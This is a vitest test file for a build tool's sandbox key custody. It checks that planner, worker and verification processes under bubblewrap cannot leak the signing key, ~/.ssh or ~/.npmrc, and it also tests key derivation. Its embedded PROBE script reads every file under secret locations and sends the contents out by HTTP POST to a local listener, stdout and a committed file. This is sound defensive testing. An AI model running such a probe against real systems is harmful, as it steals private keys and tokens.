/**
 * Key custody, proved by attacks: a hostile planner, worker and verified program each
 * read every file under the places a user's secrets live — longbuild's config directory (the
 * signing key, the heads copies), LONGBUILD_CONFIG_DIR, LONGBUILD_SIGNING_KEY's file, the home
 * (~/.ssh, ~/.npmrc) — and send what they got to a listener (planner and worker have the
 * network), print it (a verification's output is evidence) and commit it (a worker's clone).
 * The outcome a user would check: not one byte of a secret reaches the listener, the build
 * directory or the integration ref, while a file outside those places does (the channel works).
 * Real bubblewrap, real processes; the secrets live outside /tmp (which every sandbox has private
 * anyway), in a directory of this checkout.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildKeyFrom, buildVerifierKey, deriveBuildKey, generateSigningKey } from '../src/adapters/transparency/keys.js';
import { parseSignerKey, rawPublicKey } from '../src/events/signed-note.js';
import { HAVE_BWRAP } from './support/bwrap.js';
import { hasPython } from './support/python.js';
import { cliAsync, cliJson, ROOT, runCli, tempDir, userRepo } from './support/cli.js';

if (!HAVE_BWRAP) console.log('key-custody tests skipped: bubblewrap is not installed or cannot create user namespaces here (apt-get install bubblewrap)');
const maybe = HAVE_BWRAP || process.env.CI === 'true' ? describe : describe.skip;

const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8' }).trim();
/**
 * Where the secrets live: outside /tmp and /var/tmp (private in every sandbox anyway, so a test
 * there could not fail) and outside any home — /var/lib when it can be written (root, as in CI),
 * else this checkout's test-artifacts (a checkout under /tmp then proves less, and says so).
 */
const PLACES = (() => {
  for (const base of ['/var/lib', join(ROOT, 'test-artifacts')]) {
    try {
      mkdirSync(base, { recursive: true });
      return mkdtempSync(join(base, 'longbuild-key-custody-'));
    } catch {
      // not writable: the next
    }
  }
  throw new Error('no place outside /tmp to keep the test\'s secrets');
})();
if (PLACES.startsWith('/tmp/')) console.log(`key-custody: the secrets live under ${PLACES}, which every sandbox has private anyway: these tests prove little here`);
const place = (prefix: string) => mkdtempSync(join(PLACES, prefix));
afterAll(() => rmSync(PLACES, { recursive: true, force: true }));

/** Every file under `dir` (recursively), read as text. */
function filesUnder(dir: string): { path: string; text: string }[] {
  const out: { path: string; text: string }[] = [];
  const walk = (p: string) => {
    const st = statSync(p, { throwIfNoEntry: false });
    if (st?.isDirectory()) for (const n of readdirSync(p)) walk(join(p, n));
    else if (st?.isFile()) out.push({ path: p, text: readFileSync(p, 'latin1') });
  };
  walk(dir);
  return out;
}

/**
 * The attacker, run by the planner, the worker and the verification: reads every file under each
 * target, posts what it read to the listener, prints it and (a worker) writes it into its clone.
 */
const PROBE = `import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
const [role, port, list] = process.argv.slice(2);
const targets = JSON.parse(readFileSync(list, 'utf8'));
const got = [];
const walk = (p) => {
  let st; try { st = statSync(p); } catch { return; }
  if (st.isDirectory()) { let names = []; try { names = readdirSync(p); } catch {} for (const n of names) walk(join(p, n)); }
  else { try { got.push(p + ' => ' + readFileSync(p, 'latin1')); } catch {} }
};
for (const t of targets) walk(t);
const body = role + '\\n' + got.join('\\n');
process.stdout.write(body + '\\n');
if (role === 'worker') writeFileSync('stolen.txt', body);
try { await fetch('http://127.0.0.1:' + port + '/' + role, { method: 'POST', body }); } catch {}
`;

interface Case {
  /** Where the secrets are, as the controller's environment says. */
  readonly env: Record<string, string | undefined>;
  /** The paths the attacker tries (what a prompt-injected agent would guess). */
  readonly targets: string[];
  /** Files whose bytes must never leave the host side. */
  readonly secretFiles: () => string[];
  /** Files no sandboxed process may read at all. */
  readonly readNever: () => string[];
}

async function attack(c: Case, visible: string, extra: Record<string, unknown> = {}): Promise<{ bodies: Record<string, string>; repo: string }> {
  const bodies: Record<string, string> = {};
  const server = createServer((req, res) => {
    let b = '';
    req.on('data', (d) => (b += d));
    req.on('end', () => {
      bodies[req.url ?? ''] = b;
      res.end('ok');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  const port = String((server.address() as { port: number }).port);
  try {
    const repo = userRepo();
    const cfg = tempDir('longbuild-cfg-');
    cpSync(join(ROOT, 'examples', 'scripts'), cfg, { recursive: true });
    writeFileSync(join(cfg, 'probe.mjs'), PROBE);
    // The targets are the attacker's guesses, not the config's: they are read from a file, never named in an argv.
    writeFileSync(join(cfg, 'targets.json'), JSON.stringify([...c.targets, visible]));
    const probe = (role: string) => ['node', join(cfg, 'probe.mjs'), role, port, join(cfg, 'targets.json')];
    writeFileSync(join(cfg, 'request.json'), JSON.stringify({ title: 'keys', features: ['hello'] }));
    writeFileSync(join(cfg, 'planner.sh'), `${probe('planner').join(' ')} >/dev/null\nexec node ${join(cfg, 'planner.mjs')}\n`);
    writeFileSync(join(cfg, 'worker.sh'), `node ${join(cfg, 'worker.mjs')} >/dev/null\n${probe('worker').join(' ')} >/dev/null\nexit 0\n`);
    const config = {
      planner: { command: ['sh', join(cfg, 'planner.sh')], timeoutSeconds: 60, route: 'test:keys' },
      worker: { command: ['sh', join(cfg, 'worker.sh')], timeoutSeconds: 60 },
      // The verification has no network by default: its channel is its output (kept as evidence).
      verify: [probe('verify'), ['node', '--test']],
      maxAttempts: 1,
      ...extra,
    };
    writeFileSync(join(cfg, 'longbuild.config.json'), JSON.stringify(config));
    cliJson(['init', '--request', join(cfg, 'request.json'), '--config', join(cfg, 'longbuild.config.json')], { cwd: repo, env: c.env });
    const r = await cliAsync(['run', '--json'], repo, c.env);
    expect(r.code, r.stderr).toBe(0);
    return { bodies, repo };
  } finally {
    server.close();
  }
}

/** Asserts the outcome: every channel works (the visible file arrives), no secret line does. */
function noSecretLeft(c: Case, out: { bodies: Record<string, string>; repo: string }, visibleText: string): void {
  const secrets = c.secretFiles().map((f) => readFileSync(f, 'latin1').trim()).filter((s) => s.length >= 16);
  expect(secrets.length).toBeGreaterThanOrEqual(c.secretFiles().length);
  // The channels: the planner and the worker posted, the verification's output and the worker's file are kept.
  expect(Object.keys(out.bodies).sort()).toEqual(['/planner', '/worker']);
  const stolen = git(out.repo, 'show', 'refs/heads/longbuild/integration:stolen.txt');
  const evidence = filesUnder(join(out.repo, '.longbuild', 'evidence'));
  const verifyOutput = evidence.filter((f) => f.text.startsWith('verify\n'));
  expect(verifyOutput.length).toBeGreaterThan(0);
  for (const channel of [out.bodies['/planner']!, out.bodies['/worker']!, stolen, verifyOutput[0]!.text]) expect(channel).toContain(visibleText);
  // Not one secret, anywhere a sandboxed process could have put it.
  const everywhere = [
    ...Object.entries(out.bodies).map(([k, v]) => ({ path: `listener ${k}`, text: v })),
    { path: 'integration ref stolen.txt', text: stolen },
    ...filesUnder(join(out.repo, '.longbuild')),
  ];
  // Nor was any file of those places read at all (a heads copy is a public checkpoint, but the
  // place is longbuild's): the attacker prints each file it read as "PATH => ".
  for (const f of c.readNever()) {
    const read = everywhere.filter((e) => e.text.includes(`${f} => `)).map((e) => e.path);
    expect(read, `${f} was read and reached ${read.join(', ')}`).toEqual([]);
  }
  for (const s of secrets) {
    // The secret's own lines (a key line, a token): any of them would be a leak.
    for (const line of s.split('\n').filter((l) => l.length >= 16)) {
      const leaked = everywhere.filter((f) => f.text.includes(line)).map((f) => f.path);
      expect(leaked, `a secret line reached ${leaked.join(', ')}`).toEqual([]);
    }
  }
}

maybe('key custody: no sandbox reads a key, the config directory or the home (R-53)', () => {
  const visibleDir = place('visible-');
  const VISIBLE = `visible-${Date.now()}-not-a-secret`;
  writeFileSync(join(visibleDir, 'notes.txt'), VISIBLE);

  /** A home with the secrets agents go for. */
  const home = (): string => {
    const h = place('home-');
    mkdirSync(join(h, '.ssh'), { mode: 0o700 });
    writeFileSync(join(h, '.ssh', 'id_ed25519'), `-----BEGIN OPENSSH PRIVATE KEY-----\nssh-secret-${h}-b3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n`, { mode: 0o600 });
    writeFileSync(join(h, '.npmrc'), `//registry.npmjs.org/:_authToken=npm-secret-token-${h}\n`, { mode: 0o600 });
    return h;
  };

  it('R-53 the default config directory (~/.config/longbuild: the signing key, the heads copies), ~/.ssh and ~/.npmrc: nothing reaches the listener, the evidence or the integration ref', async () => {
    const h = home();
    const c: Case = {
      env: { HOME: h, LONGBUILD_CONFIG_DIR: undefined, XDG_CONFIG_HOME: undefined, LONGBUILD_SIGNING_KEY: undefined },
      targets: [join(h, '.config'), join(h, '.ssh'), join(h, '.npmrc'), h],
      secretFiles: () => [join(h, '.config', 'longbuild', 'signing.key'), join(h, '.ssh', 'id_ed25519'), join(h, '.npmrc')],
      readNever: () => filesUnder(h).map((f) => f.path),
    };
    // A path of the home the config shares on purpose is seen, read-only; nothing else of the home is.
    const shared = join(h, 'shared');
    mkdirSync(shared);
    writeFileSync(join(shared, 'registry.txt'), 'shared-on-purpose');
    const out = await attack(c, visibleDir, { sandbox: { mode: 'bwrap', expose: ['~/shared'] } });
    // The heads copy exists on the host (the attack had something to find).
    expect(filesUnder(join(h, '.config', 'longbuild', 'heads')).length).toBe(1);
    noSecretLeft({ ...c, readNever: () => c.readNever().filter((f) => !f.startsWith(`${shared}/`)) }, out, VISIBLE);
    for (const channel of [out.bodies['/planner']!, out.bodies['/worker']!]) expect(channel).toContain(`${join(shared, 'registry.txt')} => shared-on-purpose`);
  }, 120_000);

  it('R-53 LONGBUILD_CONFIG_DIR outside the home, and a signing key named by LONGBUILD_SIGNING_KEY: nothing of either reaches any channel', async () => {
    const h = home();
    const configDir = place('config-');
    const keyDir = place('keys-');
    const keyFile = join(keyDir, 'team.key');
    // The key file is made by a first init (any build creates the key it is pointed at).
    const c: Case = {
      env: { HOME: h, LONGBUILD_CONFIG_DIR: configDir, LONGBUILD_SIGNING_KEY: keyFile },
      targets: [configDir, keyDir, keyFile],
      secretFiles: () => [keyFile],
      readNever: () => [keyFile, ...filesUnder(configDir).map((f) => f.path), ...filesUnder(h).map((f) => f.path)],
    };
    const out = await attack(c, visibleDir);
    expect(existsSync(keyFile)).toBe(true);
    expect(filesUnder(join(configDir, 'heads')).length).toBe(1);
    noSecretLeft(c, out, VISIBLE);
  }, 120_000);
});

describe('sandbox.expose (R-53)', () => {
  it('R-53 init refuses to expose a path that is or holds longbuild\'s config directory or the key, in one line, and writes no build', () => {
    const repo = userRepo();
    const cfg = tempDir('longbuild-cfg-');
    const configDir = join(cfg, 'config');
    writeFileSync(join(cfg, 'request.json'), JSON.stringify({ title: 'x', features: ['x'] }));
    for (const expose of [cfg, configDir]) {
      writeFileSync(join(cfg, 'longbuild.config.json'), JSON.stringify({ planner: { command: ['true'] }, worker: { command: ['true'] }, verify: [['true']], sandbox: { mode: 'bwrap', expose: [expose] } }));
      const r = runCli(['init', '--request', join(cfg, 'request.json'), '--config', join(cfg, 'longbuild.config.json')], { cwd: repo, env: { LONGBUILD_CONFIG_DIR: configDir } });
      expect(r.code).toBe(1);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toContain(`sandbox.expose '${expose}' holds ${configDir}, where longbuild keeps keys: no sandbox may see it; expose a narrower path`);
      expect(r.stderr).not.toContain('R-53');
      expect(existsSync(join(repo, '.longbuild', 'events.db'))).toBe(false);
    }
    // The rule it rests on is named with --verbose.
    const v = runCli(['init', '--verbose', '--request', join(cfg, 'request.json'), '--config', join(cfg, 'longbuild.config.json')], { cwd: repo, env: { LONGBUILD_CONFIG_DIR: configDir } });
    expect(v.code).toBe(1);
    expect(v.stderr).toContain('no sandbox may see it (R-53); expose a narrower path');
  });
});

describe('each build signs under its own key, derived from the user\'s (R-53)', () => {
  const python = hasPython('cryptography');

  it('R-53 the verifier key init prints is HKDF-SHA256(user key, build id)\'s, as Python\'s cryptography derives it; two builds of one user share no key; the user key itself verifies neither', () => {
    const configDir = tempDir('lb-keys-config-');
    const env = { LONGBUILD_CONFIG_DIR: configDir, LONGBUILD_SIGNING_KEY: undefined };
    const inits = ['helios.json', 'orbit.json'].map((f) => {
      const repo = tempDir();
      return cliJson<{ buildId: string; signingKey: { path: string; vkey: string } }>(['init', '--blueprint', join(ROOT, 'test', 'fixtures', f), '--repo', repo], { cwd: repo, env });
    });
    expect(inits[0]!.signingKey.path).toBe(inits[1]!.signingKey.path);
    expect(inits[0]!.signingKey.vkey).not.toBe(inits[1]!.signingKey.vkey);
    const userLine = readFileSync(inits[0]!.signingKey.path, 'utf8').trim();
    const userKey = parseSignerKey(userLine).privateKey;
    const publicOf = (vkey: string) => Buffer.from(vkey.split('+').slice(2).join('+'), 'base64').subarray(1).toString('hex');
    for (const init of inits) {
      expect(publicOf(init.signingKey.vkey)).not.toBe(rawPublicKey(userKey).toString('hex'));
      if (!python) continue;
      const seed = Buffer.from(userLine.split('+').slice(4).join('+'), 'base64').subarray(1).toString('hex');
      const oracle = execFileSync('python3', ['-c', [
        'import sys',
        'from cryptography.hazmat.primitives import hashes, serialization',
        'from cryptography.hazmat.primitives.kdf.hkdf import HKDF',
        'from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey',
        'seed = HKDF(algorithm=hashes.SHA256(), length=32, salt=b"longbuild build key v1", info=sys.argv[2].encode()).derive(bytes.fromhex(sys.argv[1]))',
        'print(Ed25519PrivateKey.from_private_bytes(seed).public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw).hex())',
      ].join('\n'), seed, init.buildId], { encoding: 'utf8' }).trim();
      expect(publicOf(init.signingKey.vkey)).toBe(oracle);
    }
  });

  it('R-35 R-53 a key file extends a build when the build\'s key derives from it, or is it (a build from before per-build keys); any other key is refused', () => {
    const user = generateSigningKey();
    const other = generateSigningKey();
    const id = 'b-0123456789abcdef';
    const derived = deriveBuildKey(user, id);
    expect(rawPublicKey(buildKeyFrom(user, id, buildVerifierKey(id, derived))!)).toEqual(rawPublicKey(derived));
    expect(rawPublicKey(buildKeyFrom(user, id, buildVerifierKey(id, user))!)).toEqual(rawPublicKey(user));
    expect(rawPublicKey(buildKeyFrom(derived, id, buildVerifierKey(id, derived))!)).toEqual(rawPublicKey(derived)); // the build's key itself
    expect(buildKeyFrom(other, id, buildVerifierKey(id, derived))).toBeNull();
    expect(rawPublicKey(deriveBuildKey(user, 'b-fedcba9876543210'))).not.toEqual(rawPublicKey(derived));
  });
});
